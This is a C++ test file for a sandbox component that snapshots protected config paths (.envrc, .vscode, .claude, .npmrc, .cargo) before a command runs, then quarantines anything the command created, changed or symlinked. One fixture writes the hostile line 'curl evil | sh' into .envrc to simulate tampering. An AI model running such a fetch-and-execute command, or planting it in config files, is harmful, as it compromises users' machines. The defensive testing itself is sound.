// ProtectedJudge (protected_judge.hpp): the Landlock jail's protected paths, looked at before
// the command and judged after it, on a real directory.
#include "cordon/protected_judge.hpp"

#include <sys/stat.h>
#include <unistd.h>

#include <catch2/catch.hpp>
#include <cstdlib>
#include <filesystem>
#include <fstream>
#include <sstream>

using namespace cordon;
namespace fs = std::filesystem;

namespace {

struct Workdir {
    std::string path;
    Workdir() {
        char templ[] = "/tmp/cordon-judge-test.XXXXXX";
        REQUIRE(::mkdtemp(templ) != nullptr);
        path = templ;
    }
    ~Workdir() { fs::remove_all(path); }
    Workdir(const Workdir&) = delete;
    Workdir& operator=(const Workdir&) = delete;
    [[nodiscard]] std::string at(const std::string& rel) const { return path + "/" + rel; }
    void write(const std::string& rel, const std::string& text) const {
        fs::create_directories(fs::path(at(rel)).parent_path());
        std::ofstream(at(rel)) << text;
    }
    [[nodiscard]] std::string read(const std::string& rel) const {
        std::ifstream in(at(rel));
        std::stringstream s;
        s << in.rdbuf();
        return s.str();
    }
    [[nodiscard]] std::vector<std::string> abs(const std::vector<std::string>& rels) const {
        std::vector<std::string> out;
        out.reserve(rels.size());
        for (const auto& r : rels) out.push_back(at(r));
        return out;
    }
};

const Quarantined* find(const std::vector<Quarantined>& found, const std::string& path) {
    for (const auto& q : found) {
        if (q.path == path) return &q;
    }
    return nullptr;
}

}  // namespace

TEST_CASE("protected judge: what the run did not touch is left, with no finding") {
    Workdir w;
    w.write(".vscode/settings.json", "{}");
    w.write(".envrc", "export A=1\n");
    auto judge = ProtectedJudge::before(w.path, w.abs({".vscode", ".envrc", ".claude"}));
    REQUIRE(judge);
    w.write("README", "a file of the run's, not protected\n");
    CHECK(judge->after().empty());
    CHECK(w.read(".envrc") == "export A=1\n");
}

TEST_CASE("protected judge: made, changed and removed paths are moved aside, small files put back") {
    Workdir w;
    w.write(".vscode/settings.json", "{}");
    w.write(".envrc", "export A=1\n");
    w.write(".npmrc", "registry=x\n");
    ::chmod(w.at(".envrc").c_str(), 0640);
    auto judge = ProtectedJudge::before(w.path, w.abs({".vscode", ".envrc", ".claude", ".npmrc"}));
    REQUIRE(judge);
    w.write(".claude/settings.json", R"({"hooks": {}})");  // made
    w.write(".vscode/tasks.json", "{}");                   // a new file in one from before
    w.write(".envrc", "curl evil | sh\n");                 // changed in place
    fs::remove(w.at(".npmrc"));                            // removed
    const auto found = judge->after();
    CHECK(found.size() == 4);
    const Quarantined* claude = find(found, ".claude");
    REQUIRE(claude);
    CHECK(claude->moved_to == ".claude.cordon-unsafe");
    CHECK(claude->why.find("made by the command") != std::string::npos);
    CHECK_FALSE(fs::exists(w.at(".claude")));
    CHECK(fs::exists(w.at(".claude.cordon-unsafe/settings.json")));
    const Quarantined* vscode = find(found, ".vscode");
    REQUIRE(vscode);
    CHECK(vscode->moved_to == ".vscode.cordon-unsafe");
    CHECK_FALSE(vscode->restored);  // a directory is moved aside whole, the user's files in it
    const Quarantined* envrc = find(found, ".envrc");
    REQUIRE(envrc);
    CHECK(envrc->restored);
    CHECK(w.read(".envrc") == "export A=1\n");
    CHECK(w.read(".envrc.cordon-unsafe") == "curl evil | sh\n");
    struct stat st {};
    REQUIRE(::stat(w.at(".envrc").c_str(), &st) == 0);
    CHECK((st.st_mode & 07777) == 0640);
    const Quarantined* npmrc = find(found, ".npmrc");
    REQUIRE(npmrc);
    CHECK(npmrc->moved_to.empty());
    CHECK(npmrc->restored);
    CHECK(w.read(".npmrc") == "registry=x\n");
}

TEST_CASE("protected judge: a symlink the run put on the way is moved aside, never followed") {
    Workdir w;
    w.write("elsewhere/config", "[unstable]\n");
    auto judge = ProtectedJudge::before(w.path, w.abs({".cargo/config", ".claude"}));
    REQUIRE(judge);
    fs::create_directory_symlink("elsewhere", w.at(".cargo"));
    fs::create_symlink("/etc", w.at(".claude"));
    const auto found = judge->after();
    const Quarantined* cargo = find(found, ".cargo");
    REQUIRE(cargo);
    CHECK(cargo->moved_to == ".cargo.cordon-unsafe");
    CHECK(fs::is_symlink(w.at(".cargo.cordon-unsafe")));
    CHECK(fs::exists(w.at("elsewhere/config")));  // what it led to is not touched
    const Quarantined* claude = find(found, ".claude");
    REQUIRE(claude);
    CHECK(fs::is_symlink(w.at(".claude.cordon-unsafe")));
    CHECK(fs::exists("/etc/passwd"));
}

TEST_CASE("protected judge: a name taken by an earlier finding gets the next free one") {
    Workdir w;
    w.write(".claude.cordon-unsafe/old", "from an earlier run");
    auto judge = ProtectedJudge::before(w.path, w.abs({".claude"}));
    REQUIRE(judge);
    w.write(".claude/settings.json", "{}");
    const auto found = judge->after();
    REQUIRE(found.size() == 1);
    CHECK(found[0].moved_to == ".claude.cordon-unsafe.1");
    CHECK(w.read(".claude.cordon-unsafe/old") == "from an earlier run");
}

TEST_CASE("protected judge: git's own files are RepoWatch's, paths outside the workdir are left") {
    CHECK(judged_by_repowatch(".git/config"));
    CHECK(judged_by_repowatch(".git/hooks"));
    CHECK(judged_by_repowatch("sub/.git/commondir"));
    CHECK(judged_by_repowatch(".git/worktrees/w/config.worktree"));
    CHECK_FALSE(judged_by_repowatch(".git/objects/info/alternates"));
    CHECK_FALSE(judged_by_repowatch("config"));
    CHECK_FALSE(judged_by_repowatch(".vscode/hooks"));
    Workdir w;
    CHECK(ProtectedJudge::before(w.path, {w.at(".git/config"), "/etc/passwd", w.path + "x/.claude"}) == nullptr);
}
